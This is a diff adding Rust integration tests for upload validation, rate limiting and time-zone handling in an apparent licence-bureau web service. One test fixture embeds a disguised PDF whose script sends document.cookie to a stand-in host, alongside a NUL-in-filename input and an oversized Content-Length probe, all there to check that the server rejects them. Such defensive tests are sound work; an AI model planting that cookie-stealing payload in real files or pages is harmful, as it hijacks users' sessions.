@@ -444,7 +444,9 @@ async fn materials_are_uploaded_once_bounded_and_private_to_their_owner() {
     let t = TestApp::start().await;
     let owner = t.login("zhangsan").await;
     let other = t.login("lisi").await;
-    let pdf = b"%PDF-1.4\n% lease contract\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n".to_vec();
+    let pdf =
+        b"%PDF-1.4\n% lease contract\n1 0 obj << >> endobj\ntrailer << >>\nstartxref\n9\n%%EOF\n"
+            .to_vec();
     let up = |token: String, name: &str, body: Vec<u8>| {
         let req = t
             .client
@@ -500,6 +502,13 @@ async fn materials_are_uploaded_once_bounded_and_private_to_their_owner() {
         .await
         .unwrap();
     assert_eq!(mine.headers()["content-type"], "application/pdf");
+    assert_eq!(mine.headers()["x-content-type-options"], "nosniff");
+    let disposition = mine.headers()["content-disposition"].to_str().unwrap();
+    assert!(disposition.starts_with("attachment;"), "{disposition}");
+    assert!(
+        disposition.ends_with("UTF-8''%E7%A7%9F%E8%B5%81%E5%90%88%E5%90%8C.pdf"),
+        "{disposition}"
+    );
     assert_eq!(mine.bytes().await.unwrap().to_vec(), pdf);
 
     // Used in an application; the clerk reads it through the case.
@@ -524,6 +533,143 @@ async fn materials_are_uploaded_once_bounded_and_private_to_their_owner() {
         StatusCode::UNPROCESSABLE_ENTITY,
         "another applicant's file cannot be cited"
     );
+}
+
+/// Holes found by testing: a file that only begins like a PDF, a name with a
+/// NUL, two identical uploads at once, bodies larger than the limit (sent, or
+/// only declared), which must be answered at once with the JSON error.
+#[tokio::test]
+async fn uploads_are_checked_by_content_and_bounded_at_once() {
+    let t = TestApp::start().await;
+    let owner = t.login("zhangsan").await;
+    let url = |name: &str| format!("{}/api/v1/materials?name={name}", t.base);
+    let send = |name: &str, body: Vec<u8>| {
+        t.client
+            .post(url(name))
+            .bearer_auth(&owner)
+            .body(body)
+            .send()
+    };
+    let disguised =
+        b"%PDF-1.4\n<html><script>document.location='http://x/'+document.cookie</script></html>\nstartxref\n0\n%%EOF"
+            .to_vec();
+    let r = send("通知.pdf", disguised).await.unwrap();
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body: serde_json::Value = r.json().await.unwrap();
+    assert_eq!(body["error"]["code"], "invalid_input");
+    assert!(
+        body["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("网页代码")
+    );
+    let truncated = b"%PDF-1.7\n1 0 obj << >> endobj\n".to_vec();
+    assert_eq!(
+        send("半截.pdf", truncated).await.unwrap().status(),
+        StatusCode::UNPROCESSABLE_ENTITY
+    );
+    let pdf = b"%PDF-1.7\n1 0 obj << >> endobj\nstartxref\n9\n%%EOF\n".to_vec();
+    assert_eq!(
+        send("合同%00.pdf", pdf.clone()).await.unwrap().status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "a NUL in the file name"
+    );
+
+    // The same new content, twice at once: both stored, one file, no 500.
+    let fresh = b"%PDF-1.7\n% twice at once\nstartxref\n9\n%%EOF\n".to_vec();
+    let (a, b) = tokio::join!(send("一.pdf", fresh.clone()), send("二.pdf", fresh.clone()));
+    let (a, b) = (a.unwrap(), b.unwrap());
+    assert_eq!(a.status(), StatusCode::CREATED);
+    assert_eq!(b.status(), StatusCode::CREATED);
+    let (a, b): (serde_json::Value, serde_json::Value) =
+        (a.json().await.unwrap(), b.json().await.unwrap());
+    assert_eq!(a["hash"], b["hash"]);
+    assert_eq!(a["name"], b["name"], "one file, kept under its first name");
+    let dir = t.dir.path().join("materials");
+    let leftovers: Vec<_> = walk(&dir)
+        .into_iter()
+        .filter(|p| p.contains(".upload-"))
+        .collect();
+    assert!(leftovers.is_empty(), "{leftovers:?}");
+
+    // 100 MB sent: a JSON 413, not plain text.
+    let started = std::time::Instant::now();
+    let r = send("大.pdf", vec![b'x'; 100 * 1024 * 1024]).await;
+    if let Ok(r) = r {
+        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
+        assert_eq!(r.headers()["content-type"], "application/json");
+        let body: serde_json::Value = r.json().await.unwrap();
+        assert_eq!(body["error"]["code"], "payload_too_large");
+    }
+    // A huge declared length with a slow body: answered before the body comes.
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let addr = t.base.trim_start_matches("http://").to_string();
+    for path in ["/api/v1/materials?name=a.pdf", "/api/v1/cases"] {
+        let mut conn = tokio::net::TcpStream::connect(&addr).await.unwrap();
+        let head = format!(
+            "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {owner}\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n{{"
+        );
+        conn.write_all(head.as_bytes()).await.unwrap();
+        let mut answer = vec![0u8; 4096];
+        let n = tokio::time::timeout(std::time::Duration::from_secs(2), conn.read(&mut answer))
+            .await
+            .expect("answered at once")
+            .unwrap();
+        let answer = String::from_utf8_lossy(&answer[..n]);
+        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
+        assert!(answer.contains("payload_too_large"), "{path}: {answer}");
+    }
+    assert!(started.elapsed() < std::time::Duration::from_secs(30));
+}
+
+fn walk(dir: &std::path::Path) -> Vec<String> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        let p = entry.path();
+        if p.is_dir() {
+            out.extend(walk(&p));
+        } else {
+            out.push(p.display().to_string());
+        }
+    }
+    out
+}
+
+/// A public report is an alert someone must handle: one address may make
+/// only a few, and a licence receive only so many.
+#[tokio::test]
+async fn public_reports_are_limited_per_address() {
+    let t = TestApp::start().await;
+    let (_, licence) = issue_sole_trader(&t).await;
+    let path = format!("/api/v1/verify/{licence}/reports");
+    let mut statuses = Vec::new();
+    for i in 0..8 {
+        let r = t
+            .client
+            .post(format!("{}{path}", t.base))
+            .json(&json!({"text": format!("第 {i} 次举报：证照与实际经营不符")}))
+            .send()
+            .await
+            .unwrap();
+        statuses.push(r.status().as_u16());
+        if r.status() == StatusCode::TOO_MANY_REQUESTS {
+            let body: serde_json::Value = r.json().await.unwrap();
+            assert_eq!(body["error"]["code"], "rate_limited");
+            assert!(
+                body["error"]["message"]
+                    .as_str()
+                    .unwrap()
+                    .contains("举报过于频繁")
+            );
+        }
+    }
+    assert_eq!(statuses, [202, 202, 202, 202, 202, 429, 429, 429]);
+    // After the hour the address may report again; a NUL is no report at all.
+    t.clock.advance(chrono::Duration::minutes(61));
+    let r = t.post(&path, "", json!({"text": "\u{0}"})).await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
+    let r = t.post(&path, "", json!({"text": "又发现问题"})).await;
+    assert_eq!(r.status, StatusCode::ACCEPTED, "{:?}", r.body);
 }
 
 #[tokio::test]
@@ -616,4 +762,59 @@ async fn licences_sealed_before_a_key_rotation_stay_verifiable() {
     let v = rotated.verify_licence(&old).await.unwrap();
     assert_eq!(v.standing, onestamp_domain::licence::Standing::Valid);
     assert_eq!(t.app.store.seal_keys().await.unwrap().len(), 2);
+}
+
+/// The bureau's zone is a setting: with it set to New York, a case submitted on
+/// Monday 2 March at 15:30 there (already Tuesday in Beijing) is numbered,
+/// timed and licensed by New York's calendar day and office hours.
+#[tokio::test]
+async fn the_configured_time_zone_dates_numbers_deadlines_and_licences() {
+    use chrono::{Datelike, Timelike};
+    let zone = chrono_tz::America::New_York;
+    let monday_afternoon = chrono::DateTime::parse_from_rfc3339("2026-03-02T15:30:00-05:00")
+        .unwrap()
+        .with_timezone(&chrono::Utc);
+    let t = TestApp::start_configured(monday_afternoon, |s| {
+        s.calendar = s.calendar.clone().with_tz(zone);
+    })
+    .await;
+    assert_eq!(t.app.today().to_string(), "2026-03-02");
+    let applicant = t.login("zhangsan").await;
+    let r = t
+        .post(
+            "/api/v1/cases",
+            &applicant,
+            json!({"item": SOLE_TRADER, "channel": "counter", "form": sole_trader_form()}),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
+    let number = r.body["number"].as_str().unwrap();
+    assert!(number.starts_with("510107-20260302-"), "{number}");
+    let deadline = chrono::DateTime::parse_from_rfc3339(r.body["deadline"].as_str().unwrap())
+        .unwrap()
+        .with_timezone(&zone);
+    assert!(
+        deadline.weekday().number_from_monday() <= 5 && (9..=17).contains(&deadline.hour()),
+        "the deadline falls in New York office hours: {deadline}"
+    );
+    let id = r.body["id"].as_i64().unwrap();
+    for (user, action) in [
+        ("clerk", "accept"),
+        ("approver", "approve"),
+        ("officer", "produce"),
+        ("officer", "issue"),
+    ] {
+        let token = t.login(user).await;
+        let r = t.act(id, &token, action, Some("同意")).await;
+        assert_eq!(r.status, StatusCode::OK, "{user} {action}: {:?}", r.body);
+    }
+    let done = t.get(&format!("/api/v1/cases/{id}"), &applicant).await;
+    let licence = done.body["licence_id"].as_str().unwrap().to_string();
+    let l = t
+        .get(&format!("/api/v1/licences/{licence}"), &applicant)
+        .await;
+    assert_eq!(l.status, StatusCode::OK, "{:?}", l.body);
+    assert_eq!(l.body["issued_on"], "2026-03-02", "{:?}", l.body);
+    let v = t.get(&format!("/api/v1/verify/{licence}"), "").await;
+    assert_eq!(v.body["licence"]["issued_on"], "2026-03-02", "{:?}", v.body);
 }
